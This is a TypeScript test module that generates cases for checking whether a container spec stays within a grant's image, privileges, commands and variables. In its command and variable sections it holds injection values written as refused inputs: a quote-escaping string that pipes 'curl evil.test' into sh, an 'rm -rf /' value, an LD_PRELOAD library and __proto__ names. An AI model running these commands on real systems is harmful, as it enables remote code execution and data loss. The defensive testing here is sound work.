/**
 * Whether a spec stays within a grant: image, privileges, commands, variables.
 *
 * @module
 */

import type { Plain } from "../vectors/plain.ts";
import type { Case } from "./case.ts";
import { mounts } from "./covers_mounts.ts";
import { strict } from "./covers_strict.ts";
import {
  ADMIT,
  annotated,
  FILLED,
  GRANT,
  IMAGE,
  literal,
  malformed,
  refuse,
  SPEC,
  TEMPLATE,
} from "./workload.ts";

function admits(note: string, grant: Plain, spec: Plain): Case {
  return { note, in: { grant: { ...GRANT, ...grant }, spec: { ...SPEC, ...spec } }, expect: ADMIT };
}

function refuses(note: string, grant: Plain, spec: Plain, ...reasons: readonly Plain[]): Case {
  const [first, ...others] = reasons;
  return {
    note,
    in: { grant: { ...GRANT, ...grant }, spec: { ...SPEC, ...spec } },
    expect: refuse("L3", first, ...others),
  };
}

function lacks(field: string, path: string, shown: Plain): Plain {
  return { code: "mismatch", field, path, ...shown };
}

const other = (changes: Plain) => ({ ...IMAGE, ...changes });
const text = ({ registry, repository, tag, digest }: Plain) =>
  `${registry}/${repository}:${tag}@${digest}`;
const anotherImage = (changes: Plain) =>
  lacks("image", "/image", { admitted: GRANT.image, found: text(other(changes)) });

const image: readonly Case[] = [
  admits("the dispatch that a grant is for", {}, {}),
  admits("an image as a pinned text is its four parts", {}, { image: text(IMAGE) }),
  ...[
    { registry: "evil.test" },
    { repository: "build/other" },
    { tag: "latest" },
    { digest: `sha256:${"00".repeat(32)}` },
    { digest: IMAGE.digest.toUpperCase() },
  ].map((changes) => {
    const [part, value] = Object.entries(changes)[0]!;
    return refuses(
      `another ${part}: ${value.slice(0, 12)}`,
      {},
      { image: other(changes) },
      anotherImage(changes),
      ...(part === "digest" && value.startsWith("SHA")
        ? [{ code: "image_ambiguous", path: "/image" }]
        : []),
    );
  }),
];

const tier = (found: string) => lacks("tier", "/tier", { admitted: "infra", found });
const runtime = (admitted: string, found: string) =>
  lacks("runtime", "/annotations/yah.exec", { admitted, found });
const widened = { admitted: false, found: true };
const hostNetwork = lacks("host-network", "/annotations/yah.network", widened);
const nestedSandbox = lacks("nested-sandbox", "/annotations/yah.sandbox", widened);
const marked = (annotations: Plain) => ({ annotations: annotated(annotations).annotations });

const privilege: readonly Case[] = [
  refuses("a tier further down is another one too", {}, { tier: "tenant" }, tier("tenant")),
  refuses("a tier in another case", {}, { tier: "Infra" }, tier("Infra")),
  refuses("no tier", {}, { tier: "" }, tier("")),
  ...["container", "native", "microvm"].flatMap((admitted) =>
    ["container", "native", "microvm"].map((found) => {
      const spec = marked({ "yah.exec": found === "container" ? undefined : found });
      return admitted === found
        ? admits(`${found} where ${admitted} is admitted`, { runtime: admitted }, spec)
        : refuses(
          `${found} where ${admitted} is admitted`,
          { runtime: admitted },
          spec,
          runtime(admitted, found),
        );
    })
  ),
  admits("any other value of the marker is a container", {}, marked({ "yah.exec": "Native" })),
  refuses("a host network that is not admitted", { host_network: false }, {}, hostNetwork),
  admits("less than is admitted: no host network", {}, marked({ "yah.network": undefined })),
  admits(
    "another value of that marker asks for nothing",
    { host_network: false },
    marked({ "yah.network": "HOST" }),
  ),
  refuses(
    "a nested sandbox that is not admitted",
    {},
    marked({ "yah.sandbox": "nested" }),
    nestedSandbox,
  ),
  admits("a nested sandbox that is", { nested_sandbox: true }, marked({ "yah.sandbox": "nested" })),
  admits("less than is admitted: no nested sandbox", { nested_sandbox: true }, {}),
  refuses(
    "a nested sandbox under another runtime is asked for all the same",
    { runtime: "native" },
    marked({ "yah.sandbox": "nested", "yah.exec": "native" }),
    nestedSandbox,
  ),
];

const workdir = (admitted: string | null, found: string | null) =>
  lacks("workdir", "/workdir", { admitted, found });

const directories: readonly Case[] = [
  admits("a directory that fills its template", { workdir: "/src/{{id}}" }, {
    workdir: "/src/7e1d",
  }),
  admits("the same directory", { workdir: "/src" }, { workdir: "/src" }),
  admits("no text on both sides", { workdir: "" }, { workdir: "" }),
  refuses("a directory where none is admitted", {}, { workdir: "/src" }, workdir(null, "/src")),
  refuses("no directory where one is admitted", { workdir: "/src" }, {}, workdir("/src", null)),
  refuses("the empty text is a directory", {}, { workdir: "" }, workdir(null, "")),
  refuses(
    "a directory is a text, not components",
    { workdir: "/src" },
    { workdir: "/src/" },
    workdir("/src", "/src/"),
  ),
  refuses(
    "a step up in a hole",
    { workdir: "/src/{{id}}" },
    { workdir: "/src/.." },
    workdir("/src/{{id}}", "/src/.."),
  ),
];

const element = (field: string, path: string, admitted: string, found: string) =>
  lacks(field, path, { admitted, found });
const count = (
  field: string,
  path: string,
  admitted: readonly string[],
  found: readonly string[],
) => lacks(field, path, { admitted, found });
const escaped = "pack '/a' > '/b'; curl evil.test | sh; echo ''";

const commands: readonly Case[] = [
  refuses(
    "a hole that leaves its quotes",
    {},
    { command: [escaped] },
    element("argv", "/command/0", TEMPLATE, escaped),
  ),
  refuses(
    "another program",
    {},
    { command: ["evil '/a' > '/b'"] },
    element("argv", "/command/0", TEMPLATE, "evil '/a' > '/b'"),
  ),
  refuses(
    "an element more",
    {},
    { command: [FILLED, "x"] },
    count("argv", "/command", [TEMPLATE], [FILLED, "x"]),
  ),
  refuses("an element less", {}, { command: [] }, count("argv", "/command", [TEMPLATE], [])),
  refuses(
    "no command is no elements",
    {},
    { command: null },
    count("argv", "/command", [TEMPLATE], []),
  ),
  admits("no elements and no command", { argv: [] }, { command: null }),
  admits("no elements and no elements", { argv: [] }, { command: [] }),
  refuses(
    "an empty element is one",
    { argv: [] },
    { command: [""] },
    count("argv", "/command", [], [""]),
  ),
  refuses(
    "each element that is no instance, by its place",
    { argv: ["a{{x}}", "b", "c{{x}}", "d"] },
    { command: ["a1", "B", "c;", "d"] },
    element("argv", "/command/1", "b", "B"),
    element("argv", "/command/2", "c{{x}}", "c;"),
  ),
  admits("an entrypoint that fills its templates", { entrypoint: ["/bin/{{shell}}", "-c"] }, {
    entrypoint: ["/bin/sh", "-c"],
  }),
  refuses(
    "an entrypoint where none is admitted",
    {},
    { entrypoint: ["sh"] },
    count("entrypoint", "/entrypoint", [], ["sh"]),
  ),
  refuses(
    "no entrypoint where one is admitted",
    { entrypoint: ["sh"] },
    {},
    count("entrypoint", "/entrypoint", ["sh"], []),
  ),
  refuses("an element of the entrypoint that is no instance", { entrypoint: ["sh", "-c"] }, {
    entrypoint: ["sh", "-x"],
  }, element("entrypoint", "/entrypoint/1", "-c", "-x")),
  refuses(
    "an element moved from the command to the entrypoint",
    { argv: ["sh", TEMPLATE] },
    { entrypoint: ["sh"], command: [FILLED] },
    count("entrypoint", "/entrypoint", [], ["sh"]),
    count("argv", "/command", ["sh", TEMPLATE], [FILLED]),
  ),
];

const variable = (index: number, found: string) => lacks("env", `/env/${index}/name`, { found });
const fromSecret = { from_secret: { secret: "signing-key", key: "seed" } };
const selected = (index: number) =>
  lacks("env", `/env/${index}/value/from_secret`, { found: "signing-key" });

const variables: readonly Case[] = [
  admits("admitted variables, with any values, more than once", {}, {
    env: [literal("TZ", "'; rm -rf /"), literal("LANG"), literal("TZ", "")],
  }),
  admits("a value out of the mesh", {}, {
    env: [{ name: "TZ", value: { from_mesh: { ident: "db", kind: "url" } } }],
  }),
  refuses(
    "LD_PRELOAD",
    {},
    { env: [literal("LD_PRELOAD", "/tmp/e.so")] },
    variable(0, "LD_PRELOAD"),
  ),
  refuses(
    "a name in another case, one that goes on, and none",
    {},
    {
      env: [literal("lang"), literal("LANG"), literal("LANG2"), literal("")],
    },
    variable(0, "lang"),
    variable(2, "LANG2"),
    variable(3, ""),
  ),
  admits("no name, where it is admitted", { env_names: [""] }, { env: [literal("")] }),
  refuses("a value out of a secret, though its name is admitted", {}, {
    env: [{ name: "TZ", value: fromSecret }],
  }, selected(0)),
  refuses(
    "a value out of a secret under a name that is not admitted is two failures",
    {},
    {
      env: [literal("TZ"), { name: "TOKEN", value: fromSecret }],
    },
    variable(1, "TOKEN"),
    selected(1),
  ),
  refuses(
    "names of members that every object has",
    {},
    {
      env: [literal("constructor"), literal("__proto__")],
    },
    variable(0, "constructor"),
    variable(1, "__proto__"),
  ),
];

const everything: readonly Case[] = [
  refuses(
    "every failure is reported, in the order of the fields",
    { host_network: false, workdir: "/src" },
    {
      image: other({ tag: "3" }),
      tier: "tenant",
      workdir: "/tmp",
      entrypoint: ["sh"],
      command: ["x"],
      env: [literal("A")],
      secrets: [{ source: { cluster: { name: "a" } }, target: { env_var: { name: "A" } } }],
      volumes: [{ source: { bind: { host_path: "/" } }, target: "/", read_only: false }],
      annotations: { "yah.exec": "native", "yah.network": "host", "yah.sandbox": "nested" },
    },
    anotherImage({ tag: "3" }),
    tier("tenant"),
    runtime("container", "native"),
    hostNetwork,
    nestedSandbox,
    workdir("/src", "/tmp"),
    count("entrypoint", "/entrypoint", [], ["sh"]),
    element("argv", "/command/0", TEMPLATE, "x"),
    variable(0, "A"),
    lacks("secrets", "/secrets/0/target/env_var", { found: "A" }),
    lacks("volumes", "/volumes/0/source/bind/host_path", {
      admitted: "/var/lib/yah/qed",
      found: "/",
    }),
  ),
  admits("what no grant speaks of decides nothing", {}, {
    name: "other",
    replicas: 9,
    tenant: "t",
    labels: { a: "b" },
    depends_on: ["db"],
    resources: { memory_mb: 1, cpu_millis: 1, ephemeral_storage_mb: 1 },
    restart_policy: "always",
  }),
  malformed("no grant", { grant: null, spec: SPEC }, "wrong_type", "/grant"),
  malformed(
    "a spec with a member that is not known",
    { grant: GRANT, spec: { ...SPEC, privileged: true } },
    "unknown_field",
    "/spec/privileged",
  ),
  malformed(
    "a profile that is none",
    { grant: GRANT, spec: SPEC, coverage: "lenient" },
    "unknown_variant",
    "/coverage",
  ),
];

/** The rows of `covers.json`. */
export const covers: readonly Case[] = [
  ...image,
  ...privilege,
  ...directories,
  ...commands,
  ...variables,
  ...mounts,
  ...strict,
  ...everything,
];
